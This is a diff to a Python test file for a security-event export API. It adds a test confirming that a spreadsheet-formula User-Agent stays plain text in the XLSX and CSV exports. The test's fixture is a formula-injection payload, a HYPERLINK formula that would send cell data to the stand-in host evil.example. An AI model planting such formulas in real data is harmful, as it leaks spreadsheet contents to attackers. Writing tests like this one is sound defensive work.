@@ -4,6 +4,7 @@ exported by admins (``GET /api/v1/security-events``)."""
 
 from __future__ import annotations
 
+import csv
 import hashlib
 import io
 import re
@@ -141,6 +142,24 @@ def test_admins_read_and_export_the_security_log(api, client):
         assert api.get(f"/api/v1/security-events?from={today}&to={today}", user).status_code == 403
     bad = api.get(f"/api/v1/security-events?from={today}&to={today}&type=forged", "admin")
     assert bad.status_code == 422 and "type" in bad.get_json()["errors"]
+
+
+def test_a_hostile_user_agent_stays_text_in_the_exports(api, client):
+    """Anyone can send a login with any User-Agent: the admin's spreadsheet must not run it."""
+    from openpyxl import load_workbook
+
+    agent = '=HYPERLINK("http://evil.example/?"&A1,"\x01详情")'
+    _token(client, "window1", "wrong", headers={"User-Agent": agent})
+    today = local_date(clock_now()).isoformat()
+    r = api.get(f"/api/v1/security-events?from={today}&to={today}&type=login_failed&format=xlsx", "admin")
+    assert r.status_code == 200
+    sheet = load_workbook(io.BytesIO(r.data)).active
+    cell = sheet.cell(row=2, column=[c.value for c in sheet[1]].index("user_agent") + 1)
+    assert (cell.value, cell.data_type) == (agent.replace("\x01", "\\x01"), "s")
+    r = api.get(f"/api/v1/security-events?from={today}&to={today}&type=login_failed&format=csv", "admin")
+    assert r.status_code == 200
+    header, row = csv.reader(io.StringIO(r.data.decode("utf-8-sig")))
+    assert row[header.index("user_agent")] == "'" + agent
 
 
 def test_the_database_refuses_to_change_or_delete_security_events(app, client):
